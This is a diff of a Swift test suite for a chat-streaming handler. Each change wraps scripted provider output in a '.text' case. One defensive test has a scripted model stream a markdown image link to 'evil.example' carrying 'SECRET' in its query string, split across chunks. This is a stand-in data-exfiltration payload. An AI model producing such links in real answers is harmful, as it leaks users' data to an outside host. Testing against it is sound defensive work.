@@ -12,7 +12,7 @@ import Testing
 @Suite(.timeLimit(.minutes(1))) struct ChatHandlerTests {
     /// Says `half` and then nothing until it is cancelled.
     private static let hanging = ScriptedProvider { _, _, emit in
-        try await emit(Array("half".utf8))
+        try await emit(.text(Array("half".utf8)))
         try await Task.sleep(for: .seconds(3600))
         return Completed()
     }
@@ -22,7 +22,7 @@ import Testing
         let provider = ScriptedProvider { _, request, emit in
             #expect(request.messages == [ChatMessage(role: .user, content: "hello")])
             #expect(request.language == .korean)
-            for text in ["안", "녕", "\n👋"] { try await emit(Array(text.utf8)) }
+            for text in ["안", "녕", "\n👋"] { try await emit(.text(Array(text.utf8))) }
             return Completed(usage: usage, finishReason: "stop")
         }
         let place = Workplace(provider)
@@ -52,7 +52,7 @@ import Testing
         let provider = ScriptedProvider { _, request, emit in
             #expect(request.grounding?.passages == [passage])
             for text in ["As asked [1]: !", "[x](htt", "ps://evil.example/?d=", "SECRET)"] {
-                try await emit(Array(text.utf8))
+                try await emit(.text(Array(text.utf8)))
             }
             return Completed()
         }
@@ -102,7 +102,7 @@ import Testing
         async throws
     {
         let provider = ScriptedProvider { _, _, emit in
-            try await emit(Array("half".utf8))
+            try await emit(.text(Array("half".utf8)))
             throw ProviderFailure(kind: kind, detail: "sk-secret")
         }
         let place = Workplace(provider)
@@ -218,7 +218,7 @@ import Testing
     @Test(arguments: [true, false])
     func aCancelEndsTheProvidersWork(isBeforeFirstToken: Bool) async throws {
         let provider = ScriptedProvider { _, _, emit in
-            if !isBeforeFirstToken { try await emit(Array("half".utf8)) }
+            if !isBeforeFirstToken { try await emit(.text(Array("half".utf8))) }
             try await Task.sleep(for: .seconds(3600))
             return Completed()
         }
@@ -289,7 +289,7 @@ import Testing
     @Test(arguments: [(5, 1 << 20), (1000, 50)])
     func anAnswerThatOutgrowsTheLimitIsEnded(events: Int, bytes: Int) async throws {
         let provider = ScriptedProvider { _, _, emit in
-            while true { try await emit(Array("0123456789".utf8)) }
+            while true { try await emit(.text(Array("0123456789".utf8))) }
         }
         let place = Workplace(provider, limit: .init(events: events, bytes: bytes))
         try await place.running {
@@ -303,10 +303,10 @@ import Testing
     @Test func aRunThatAnotherWorkerTookIsLeftAlone() async throws {
         let (openings, opening) = AsyncStream.makeStream(of: Never.self)
         let provider = ScriptedProvider { _, _, emit in
-            try await emit(Array("half".utf8))
+            try await emit(.text(Array("half".utf8)))
             for await _ in openings {}
             while true {
-                try await emit(Array("late".utf8))
+                try await emit(.text(Array("late".utf8)))
                 await Task.yield()
             }
         }
@@ -328,7 +328,7 @@ import Testing
     @Test func aRunThatWasEndedMeanwhileIsDone() async throws {
         let (openings, opening) = AsyncStream.makeStream(of: Never.self)
         let provider = ScriptedProvider { _, _, emit in
-            try await emit(Array("half".utf8))
+            try await emit(.text(Array("half".utf8)))
             for await _ in openings {}
             return Completed()
         }
@@ -349,9 +349,9 @@ import Testing
     @Test func anOutageIsWaitedOut() async throws {
         let (openings, opening) = AsyncStream.makeStream(of: Never.self)
         let provider = ScriptedProvider { _, _, emit in
-            try await emit(Array("a".utf8))
+            try await emit(.text(Array("a".utf8)))
             for await _ in openings {}
-            for text in ["b", "c"] { try await emit(Array(text.utf8)) }
+            for text in ["b", "c"] { try await emit(.text(Array(text.utf8))) }
             return Completed()
         }
         let place = Workplace(provider)
